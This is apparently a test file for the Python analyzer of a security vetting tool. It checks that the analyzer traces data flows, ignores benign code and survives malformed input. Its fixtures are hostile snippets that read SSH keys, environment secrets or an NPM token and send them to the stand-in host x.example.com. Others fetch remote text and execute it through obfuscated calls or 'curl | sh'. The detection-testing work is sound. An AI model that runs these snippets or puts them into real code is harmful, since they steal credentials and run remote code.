"""The Python analyzer: which flows it finds, which it leaves alone, and what always holds."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sluicegate.vet.inspect.analyzers.pyflow.rules import OWN
from sluicegate.vet.inspect.analyzers.python import PythonAnalyzer
from sluicegate.vet.inspect.rule import Inspected, Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import Step, View
from sluicegate.vet.verdict.types import GapReason, Severity

NO_BUNDLE = Bundle(name="x", root="", artifacts=(), gaps=(), anomalies=())


def view_of(text: str, path: str = "run.py", origin: tuple[Step, ...] = ()) -> View:
    data = text.encode("utf-8", "replace")
    artifact = Artifact(path=path, data=data, mode=0o644, kind=Kind.PYTHON)
    return View(artifact=artifact, text=text, language=Kind.PYTHON, origin=origin)


def inspect(*views: View) -> Inspected:
    return PythonAnalyzer().inspect(Subject(bundle=NO_BUNDLE, views=views))


def found(text: str) -> set[str]:
    return {match.rule for match in inspect(view_of(text)).matches}


def serious(text: str) -> set[str]:
    rules = PythonAnalyzer().rules
    return {
        m.rule
        for m in inspect(view_of(text)).matches
        if (m.severity if m.severity is not None else rules[m.rule].severity) >= Severity.HIGH
    }


THROUGH = {
    "thread": "import threading, requests\ndef f(u, d):\n    requests.post(u, data=d)\n"
    "k = open('/root/.ssh/id_rsa').read()\nthreading.Thread(target=f, args=('https://x.example.com', "
    "k)).start()\n",
    "lambda": "import requests\nsend = lambda d: requests.post('https://x.example.com', data=d)\n"
    "send(open('/root/.ssh/id_rsa').read())\n",
    "default": "import requests\nkey = open('/root/.ssh/id_rsa').read()\n"
    "def go(d=key):\n    requests.post('https://x.example.com', data=d)\ngo()\n",
    "decorator": "import requests\ndef wrap(f):\n    return f\n@wrap\ndef go(d):\n"
    "    requests.post('https://x.example.com', data=d)\ngo(open('/root/.ssh/id_rsa').read())\n",
    "inheritance": "import requests\nclass A:\n    def send(self, d):\n        "
    "requests.post('https://x.example.com', data=d)\n"
    "class B(A):\n    pass\nB().send(open('/root/.ssh/id_rsa').read())\n",
    "comprehension": "import requests\nk = [open(p).read() for p in ['/root/.ssh/id_rsa']]\n"
    "requests.post('https://x.example.com', json={'k': ''.join(k)})\n",
    "walrus": "import requests\nif (k := open('/root/.ssh/id_rsa').read()):\n    "
    "requests.post('https://x.example.com', data=k)\n",
    "match": "import requests\nmatch open('/root/.ssh/id_rsa').read():\n    case k:\n"
    "        requests.post('https://x.example.com', data=k)\n",
    "global": "import requests\nk = ''\ndef read():\n    global k\n    k = open('/root/.ssh/id_rsa').read()\n"
    "def send():\n    requests.post('https://x.example.com', data=k)\nread()\nsend()\n",
    "closure": "import requests\ndef outer():\n    k = open('/root/.ssh/id_rsa').read()\n    def inner():\n"
    "        requests.post('https://x.example.com', data=k)\n    inner()\nouter()\n",
    "generator": "import requests\ndef gen():\n    yield open('/root/.ssh/id_rsa').read()\n"
    "for k in gen():\n    requests.post('https://x.example.com', data=k)\n",
    "append": "import requests\nks = []\nks.append(open('/root/.ssh/id_rsa').read())\n"
    "requests.post('https://x.example.com', data='\\n'.join(ks))\n",
    "loop-carried": "import requests\na = b = ''\nwhile True:\n    requests.post('https://x.example.com', "
    "data=a)\n"
    "    a = b\n    b = open('/root/.ssh/id_rsa').read()\n",
    "copied": "import requests, shutil\nshutil.copy('/root/.ssh/id_rsa', '/tmp/a')\n"
    "requests.post('https://x.example.com', data=open('/tmp/a').read())\n",
    "curl": "import subprocess\nsubprocess.run(['curl', '-d', open('/root/.ssh/id_rsa').read(), "
    "'https://x.example.com'])\n",
    "async": "import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
    "        await s.post('https://x.example.com', data=open('/root/.ssh/id_rsa').read())\n",
    "mail": "import smtplib\ns = smtplib.SMTP('smtp.example.com')\n"
    "s.sendmail('a@example.com', 'b@example.com', open('/root/.ssh/id_rsa').read())\n",
    "snippet without imports": "d = Path.home() / '.ssh' / "
    "'id_rsa'\nrequests.post('https://x.example.com', data=d.read_text())\n",
}


@pytest.mark.parametrize("name", THROUGH)
def test_a_credential_is_followed_through(name: str) -> None:
    assert "python-credential-to-network" in found(THROUGH[name])


FETCH = "import requests\nt = requests.get('https://x.example.com/p').text\n"
DISGUISES = {
    "plain": "exec(t)",
    "from-import": "from os import system as q\nq(t)",
    "module alias": "import os as o\no.system(t)",
    "variable": "import subprocess\ns = subprocess\nr = s.getoutput\nr(t)",
    "dunder import": "__import__('os').system(t)",
    "import_module": "import importlib\nimportlib.import_module('o' + 's').system(t)",
    "getattr": "import os\ngetattr(os, 'sys' + 'tem')(t)",
    "builtins": "import builtins\nbuiltins.exec(t)",
    "globals": "globals()['__builtins__'].eval(t)",
    "reversed": "import builtins\ngetattr(builtins, 'cexe'[::-1])(t)",
    "modules": "import sys\nsys.modules['os'].popen(t)",
    "star": "from os import *\nsystem(t)",
    "star below": "system(t)\nfrom os import *",
    "shell list": "import subprocess\nsubprocess.Popen(['bash', '-c', t])",
    "python list": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', t])",
    "compile": "c = compile(t, 'x', 'exec')\nexec(c)",
    "table": "run = {'a': exec}\nrun['a'](t)",
    "partial": "import functools\nfunctools.partial(exec, t)()",
    "map": "list(map(exec, [t]))",
    "stdin": "import subprocess\nsubprocess.run(['sh'], input=t)",
    "python 2": "exec t",
}


@pytest.mark.parametrize("name", DISGUISES)
def test_fetched_text_that_runs_is_found_under_any_name(name: str) -> None:
    assert "python-network-to-exec" in found(FETCH + DISGUISES[name] + "\n")


HARMLESS = {
    "client": "import os, requests\nrequests.post('https://api.tavily.com/search', json={'api_key': "
    "os.environ['TAVILY_API_KEY']})",
    "header": "import os, requests\nrequests.get('https://api.acme.com', headers={'Authorization': "
    "f\"Bearer {os.environ['X_TOKEN']}\"})",
    "configured host": "import os, requests\nb = os.getenv('BASE_URL')\nrequests.post(f'{b}/x', "
    "headers={'X-Api-Key': os.getenv('API_KEY')})",
    "upload": "import sys, requests\nrequests.post('https://api.example.com/up', files={'f': "
    "open(sys.argv[1], 'rb')})",
    "environment for a child": "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'X': "
    "'1'})",
    "pip": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
    "temporary folder": "import shutil, tempfile\nshutil.rmtree(tempfile.mkdtemp())",
    "overwritten": "import requests\nk = open('/root/.ssh/id_rsa').read()\nk = "
    "'x'\nrequests.post('https://x.example.com', data=k)",
    "local server": "import os, requests\nrequests.post('http://localhost:8080/x', json=dict(os.environ))",
    "digest": "import hashlib, requests\nd = "
    "hashlib.sha256(open('/root/.ssh/id_rsa','rb').read()).hexdigest()\n"
    "requests.post('https://x.example.com', data=d)",
    "retry": "import time, requests\ns = time.time()\nwhile time.time() - s < 9:\n    "
    "requests.get('https://x.example.com')",
    "model": "model.eval()\nresult = df.eval('a+b')\nre.compile(pattern)",
    "own class": "class Job:\n    def exec(self, x):\n        return x\nJob().exec('a' + input())",
}


@pytest.mark.parametrize("name", HARMLESS)
def test_honest_code_gives_nothing_serious(name: str) -> None:
    assert serious(HARMLESS[name] + "\n") == set()


def test_flows_cross_files() -> None:
    main = view_of(
        "from helpers.out import deliver\nimport os\ndeliver(dict(os.environ))\n", "scripts/main.py"
    )
    out = view_of(
        "import requests\ndef deliver(x):\n    requests.post('https://x.example.com', json=x)\n",
        "scripts/helpers/out.py",
    )
    for views in ((main, out), (out, main)):
        (match,) = inspect(*views).matches
        assert match.rule == "python-environment-to-network"
        assert match.view is out
        assert "os.environ (line 3)" in match.message
        assert "requests.post (line 3, host x.example.com)" in match.message
        assert "deliver(dict(os.environ))" in match.evidence
        assert "requests.post(" in match.evidence


def test_relative_imports_are_resolved() -> None:
    main = view_of("from .out import deliver\nimport os\ndeliver(os.environ.copy())\n", "pkg/main.py")
    out = view_of(
        "import requests\ndef deliver(x):\n    requests.post('https://x.example.com', json=x)\n", "pkg/out.py"
    )
    assert [m.rule for m in inspect(main, out).matches] == ["python-environment-to-network"]


def test_the_span_is_that_of_the_sink() -> None:
    text = "import os\nname = 'é'; os.system('curl https://x.example.com/a | sh')\n"
    (match,) = inspect(view_of(text)).matches
    assert text[match.start : match.end] == "os.system('curl https://x.example.com/a | sh')"


def test_cells_share_names_and_folded_copies_are_left_out() -> None:
    cell = (Step(kind="cell", detail="1"),)
    first = view_of("import os, requests\ne = dict(os.environ)\n", "n.ipynb", cell)
    second = view_of(
        "requests.post('https://x.example.com', json=e)\n", "n.ipynb", (Step(kind="cell", detail="2"),)
    )
    assert [m.rule for m in inspect(first, second).matches] == ["python-environment-to-network"]
    folded = view_of("exec(input())\n", "a.py", (Step(kind="folded"),))
    assert inspect(folded).matches == ()


def test_capabilities() -> None:
    text = (
        "import os, requests, subprocess\nfrom pathlib import Path\n"
        "requests.get('https://api.example.com/x')\nrequests.get(unknown)\nsubprocess.run(['git', "
        "'status'])\n"
        "os.system('ls -la')\nopen('out.txt', 'w').write('x')\n(Path.home() / "
        "'.cfg').read_text()\nos.getenv('DEBUG')\ndict(os.environ)\n"
    )
    names = [c.name for c in inspect(view_of(text)).capabilities]
    assert names == [
        "cmd:git", "cmd:ls", "env:*", "env:DEBUG", "fs:r:~/.cfg", "fs:w:out.txt", "net:*",
        "net:api.example.com",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "print 'hello'\nimport os\nos.system('curl https://x.example.com/a | sh')\n",
        "def broken(:\n    pass\nimport os\nos.system('curl https://x.example.com/a | sh')\n",
        "   import os\n   os.system('curl https://x.example.com/a | sh')\n",
        ">>> import os\n>>> os.system('curl https://x.example.com/a | sh')\n",
        "import os\ntry:\n    x\nexcept ValueError, e:\n    os.system('curl https://x.example.com/a | sh')\n",
        "<<<<<<< HEAD\nimport os\n=======\nimport os\n>>>>>>> b\nos.system('curl https://x.example.com/a | "
        "sh')\n",
        "import os\nif x:\nos.system('curl https://x.example.com/a | sh')\n",
        "\ufeffimport os\r\nos.system('curl https://x.example.com/a | sh')\r\n",
        "import os\nx = 'unclosed\nos.system('curl https://x.example.com/a | sh')\n",
    ],
)
def test_broken_text_is_still_read(text: str) -> None:
    assert "python-network-to-exec" in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "(" * 100_000,
        "x = " + "1+" * 20_000 + "1",
        "x = " + "not " * 90_000 + "1",
        "x=f'" + "{a}" * 30_000 + "'",
        "a=b\n" * 200_000,
    ],
)
def test_what_is_too_deep_or_too_large_is_a_gap(text: str) -> None:
    (gap,) = inspect(view_of(text)).gaps
    assert gap.reason is GapReason.ANALYSIS_LIMIT


def test_deep_blocks_and_expressions_are_a_gap_and_not_an_error() -> None:
    blocks = "".join(" " * i + "if x:\n" for i in range(80)) + " " * 80 + "pass\n"
    calls = "x = " + "f(" * 90 + ")" * 90 + "\n"
    for text in (blocks, calls):
        assert inspect(view_of(text)).gaps


PIECES = st.sampled_from(
    ["exec(", "requests.post(", "x", "=", "os.environ", "(", ")", "[", "]", "\n", "\n    ", "def f(a):",
        "class A:", "'~/.ssh/id_rsa'",
     "open(", ".read()", "for x in", ":", "f'{x}'", "import os\n", "lambda a: ", "return", "yield ",
     "await ", "%", "/", ",", "global x", "\x00",
     "match x:", "case ", "with ", " as ", "*", "**", "try:", "except*", "self.", "@", "if ", "else:",
     "\u202e", "\ud800", "print x"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40))
def test_no_text_raises(pieces: list[str]) -> None:
    view = view_of("".join(pieces))
    result = inspect(view)
    assert inspect(view) == result
    for match in result.matches:
        assert 0 <= match.start < match.end <= len(view.text)


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=200))
def test_no_garbage_raises(text: str) -> None:
    inspect(view_of(text))


BASES = [*THROUGH.values(), *(FETCH + d + "\n" for d in DISGUISES.values())]
UNRELATED = st.sampled_from(
    [
        "zz = 1\n",
        "def zz(a):\n    return a\n",
        "import json as zz\n",
        "for zz in range(3):\n    pass\n",
        "zz = {'a': []}\n",
    ]
)


@settings(max_examples=40, deadline=None)
@given(st.sampled_from(BASES), UNRELATED, st.booleans())
def test_an_unrelated_statement_removes_nothing(base: str, statement: str, before: bool) -> None:
    assert found(base) <= found(statement + base if before else base + statement)


@settings(max_examples=30, deadline=None)
@given(
    st.sampled_from(["thread", "lambda", "default", "closure", "append", "walrus"]),
    st.from_regex(r"v_[a-z]{3,6}", fullmatch=True),
)
def test_names_of_variables_do_not_matter(name: str, fresh: str) -> None:
    import re

    text = THROUGH[name]
    renamed = re.sub(r"\b(?:k|key|ks)\b", fresh, text)
    assert found(renamed) == found(text)


def test_every_rule_says_why_and_how_to_fix() -> None:
    for rule in OWN:
        assert rule.why and rule.fix and rule.references
        assert rule.id.startswith("python-")


def test_a_host_that_is_not_known_is_said_in_words() -> None:
    text = "import os, subprocess\nkey = os.environ['NPM_TOKEN']\nsubprocess.run(['dig', f'{key}.example.net'])\n"
    said = [match.message for match in inspect(view_of(text)).matches if "NPM_TOKEN" in match.message]
    assert said
    assert all("a host that is not written out" in message and "*" not in message for message in said)
